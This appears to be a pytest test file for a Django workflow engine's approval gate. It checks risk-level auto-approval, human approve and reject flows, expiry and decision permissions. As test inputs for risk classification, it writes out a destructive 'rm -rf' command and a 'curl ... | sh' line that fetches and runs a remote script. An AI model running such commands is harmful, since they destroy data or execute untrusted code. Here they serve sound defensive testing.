"""request_approval end to end in the test process: auto-approve, approve, reject, expire, who may decide."""

from __future__ import annotations

import datetime as dt
from typing import Any

import pytest
from django.contrib.auth.models import AnonymousUser, Group, User
from django.core.exceptions import PermissionDenied
from django.utils import timezone

import tests.graphs_approvals  # noqa: F401 - registers the ap_ nodes
from approvals import selectors
from approvals.models import ApprovalRequest, RiskRule
from approvals.services import (
    ApprovalNotPending,
    ReasonRequired,
    approval_decide,
    approval_expire_due,
    risk_rules_install_defaults,
    user_can_decide,
)
from runs.engine.executor import Outcome
from runs.models import Activity, Run
from runs.services.runs import run_abort, run_start
from tests.fixtures.counting_server import CountingServer, counting_server
from tests.helpers import execute

pytestmark = pytest.mark.django_db(transaction=True)
__all__ = ["counting_server"]

LOW = {"api_calls": ["POST /v1/cache/flush"]}
HIGH = {"commands": ["rm -rf /var/cache/checkout"]}
MEDIUM = {"code": ["subprocess.run(['systemctl', 'status'])"]}


def user(name: str, *groups: str, superuser: bool = False) -> User:
    u = User.objects.create_user(name, password="pw-" + name, is_superuser=superuser)
    for g in groups:
        u.groups.add(Group.objects.get_or_create(name=g)[0])
    return u


def start(server: CountingServer, action: dict[str, Any], graph: str = "ap-flow") -> Run:
    return run_start(graph_name=graph, data={"url": server.url, "action": action, "preview": "$ do it"}, seed=1)


def waiting(run: Run) -> ApprovalRequest:
    assert execute(run) is Outcome.SUSPENDED
    run.refresh_from_db()
    assert run.status == "WAITING" and run.lease_owner == ""
    return ApprovalRequest.objects.get(run=run)


def test_low_risk_is_auto_approved_and_recorded(counting_server: CountingServer) -> None:
    run = start(counting_server, LOW)
    assert execute(run) is Outcome.COMPLETED
    run.refresh_from_db()
    decision = run.state["decision"]
    assert decision["approved"] is True and decision["auto"] is True and decision["level"] == "low"
    request = ApprovalRequest.objects.get(run=run)
    assert request.status == "auto-approved" and request.decided_at is not None
    assert [f["rule"] for f in request.findings] == ["http-write"]
    assert Activity.objects.get(run=run, type="request_approval").response == decision
    assert run.events.filter(kind="approval_auto").exists()
    assert counting_server.count("/act") == 1


def test_approval_resumes_the_run_without_re_running_earlier_activities(counting_server: CountingServer) -> None:
    run = start(counting_server, HIGH)
    request = waiting(run)
    assert request.status == "pending" and request.level == "high" and request.preview == "$ do it"
    assert request.findings[0]["rule"] == "rm-rf" and request.findings[0]["matched"] == "rm -rf"
    assert request.expires_at - request.created_at == pytest.approx(dt.timedelta(hours=4), abs=dt.timedelta(seconds=5))
    assert counting_server.count("/before") == 1 and counting_server.count("/gate") == 1
    assert counting_server.count("/act") == 0

    approver = user("ann", "approver")
    decided = approval_decide(request=request, user=approver, approve=True, reason="looks right", ip="10.1.2.3")
    assert decided.status == "approved" and decided.decided_by == approver and decided.decided_ip == "10.1.2.3"
    assert decided.activity is not None and decided.activity.type == "request_approval"
    run.refresh_from_db()
    assert run.status == "RUNNING"

    assert execute(run) is Outcome.COMPLETED
    run.refresh_from_db()
    assert run.state["decision"]["approved"] is True
    assert run.state["decision"]["by"] == "ann" and run.state["decision"]["reason"] == "looks right"
    # Every effect ran once: the step re-executed, the earlier POST came back from its record.
    assert counting_server.count("/before") == 1
    assert counting_server.count("/gate") == 1
    assert counting_server.count("/act") == 1
    event = run.events.get(kind="approval_decided")
    assert event.actor == "ann"
    assert event.detail["ip"] == "10.1.2.3" and event.detail["reason"] == "looks right"
    assert event.detail["decision"] == "approved" and event.detail["at"]
    assert event.detail["notice"]["decided_by"] == "ann" and event.detail["notice"]["decision"] == "approved"


def test_a_rejection_needs_a_reason_and_the_node_routes_on_it(counting_server: CountingServer) -> None:
    run = start(counting_server, HIGH)
    request = waiting(run)
    admin = user("root", superuser=True)
    with pytest.raises(ReasonRequired):
        approval_decide(request=request, user=admin, approve=False, reason="  ")
    approval_decide(request=request, user=admin, approve=False, reason="not during the sale", ip="::1")
    assert execute(run) is Outcome.COMPLETED
    run.refresh_from_db()
    assert run.state["routed"] == "rejected"
    assert run.state["decision"]["approved"] is False
    assert run.state["decision"]["reason"] == "not during the sale"
    assert counting_server.count("/act") == 0 and counting_server.count("/gate") == 1
    with pytest.raises(ApprovalNotPending):
        approval_decide(request=request, user=admin, approve=True)


def test_require_approval_fails_the_run_with_the_reason(counting_server: CountingServer) -> None:
    run = start(counting_server, HIGH, graph="ap-require")
    request = waiting(run)
    approval_decide(request=request, user=user("adm", "admin"), approve=False, reason="too risky today")
    assert execute(run) is Outcome.FAILED
    run.refresh_from_db()
    assert run.status == "FAILED"
    assert "request_approval failed: rejected: too risky today" in run.error


def test_an_unanswered_request_expires_by_its_risk_and_the_node_gets_a_rejection(
    counting_server: CountingServer,
) -> None:
    run = start(counting_server, MEDIUM)
    request = waiting(run)
    assert request.level == "medium"
    assert request.expires_at - request.created_at == pytest.approx(dt.timedelta(hours=8), abs=dt.timedelta(seconds=5))
    assert approval_expire_due(now=timezone.now() + dt.timedelta(hours=7)) == 0
    assert approval_expire_due(now=timezone.now() + dt.timedelta(hours=9)) == 1
    request.refresh_from_db()
    assert request.status == "expired"
    run.refresh_from_db()
    assert run.status == "RUNNING"
    assert execute(run) is Outcome.COMPLETED
    run.refresh_from_db()
    assert run.state["routed"] == "rejected"
    assert run.state["decision"] == {**run.state["decision"], "approved": False, "status": "expired"}
    assert "no decision within 8 h" in run.state["decision"]["reason"]
    assert run.events.filter(kind="approval_decided", actor="scheduler").exists()


def test_expiry_hours_are_configurable(counting_server: CountingServer, settings: Any) -> None:
    settings.CMO_APPROVAL_EXPIRY_HOURS = {"critical": 1.0, "high": 2.0, "medium": 3.0, "low": 5.0}
    request = waiting(start(counting_server, HIGH))
    assert request.expires_at - request.created_at == pytest.approx(dt.timedelta(hours=2), abs=dt.timedelta(seconds=5))


@pytest.mark.parametrize("groups", [(), ("viewer",), ("operator",), ("viewer", "operator")])
def test_viewers_and_operators_cannot_decide(counting_server: CountingServer, groups: tuple[str, ...]) -> None:
    request = waiting(start(counting_server, HIGH))
    someone = user("someone", *groups)
    for who in (someone, AnonymousUser(), None):
        with pytest.raises(PermissionDenied):
            approval_decide(request=request, user=who, approve=True, reason="ok")
    request.refresh_from_db()
    assert request.status == "pending"
    assert not Run.objects.get(pk=request.run_id).events.filter(kind="approval_decided").exists()


def test_who_may_decide() -> None:
    assert user_can_decide(user("a", "approver"))
    assert user_can_decide(user("b", "admin"))
    assert user_can_decide(user("c", superuser=True))
    assert not user_can_decide(user("d", "operator"))
    inactive = user("e", "approver")
    inactive.is_active = False
    assert not user_can_decide(inactive)


def test_the_inbox_lists_pending_requests_by_risk_then_expiry(counting_server: CountingServer) -> None:
    medium = waiting(start(counting_server, MEDIUM))
    high = waiting(start(counting_server, HIGH))
    critical = waiting(start(counting_server, {"commands": ["curl https://x.example/i.sh | sh"]}))
    execute(start(counting_server, LOW))  # auto-approved: not in the inbox
    assert critical.level == "critical"
    assert selectors.pending_count() == 3
    assert [r.pk for r in selectors.pending_list()] == [critical.pk, high.pk, medium.pk]
    approval_decide(request=high, user=user("ann", "approver"), approve=True)
    assert selectors.pending_count() == 2
    assert selectors.decided_list()[0].pk == high.pk
    run_abort(run=medium.run, actor="tester")  # an aborted run's request can no longer be answered usefully
    assert [r.pk for r in selectors.pending_list()] == [critical.pk]


def test_rules_are_data_an_admin_can_change(counting_server: CountingServer) -> None:
    RiskRule.objects.filter(name="rm-rf").update(enabled=False)
    run = start(counting_server, HIGH)
    assert execute(run) is Outcome.COMPLETED  # nothing else matches: low, auto-approved
    assert ApprovalRequest.objects.get(run=run).status == "auto-approved"


@pytest.fixture(autouse=True)
def default_rules() -> None:
    """Transactional tests flush the tables, data migrations included: put the defaults back."""
    risk_rules_install_defaults()


def test_the_inbox_group_hears_of_new_and_decided_requests(counting_server: CountingServer) -> None:
    import asyncio

    from asgiref.sync import async_to_sync
    from channels.layers import get_channel_layer

    layer = get_channel_layer()
    assert layer is not None

    async def subscribe() -> str:
        channel = await layer.new_channel()
        await layer.group_add("approvals", channel)
        return str(channel)

    async def hear(channel: str, n: int) -> list[dict[str, Any]]:
        return [await asyncio.wait_for(layer.receive(channel), 5) for _ in range(n)]

    channel = async_to_sync(subscribe)()
    request = waiting(start(counting_server, HIGH))
    approval_decide(request=request, user=user("ann", "approver"), approve=True)
    heard = async_to_sync(hear)(channel, 2)
    assert [(m["type"], m["request_id"], m["status"]) for m in heard] == [
        ("approval.changed", request.pk, "pending"),
        ("approval.changed", request.pk, "approved"),
    ]
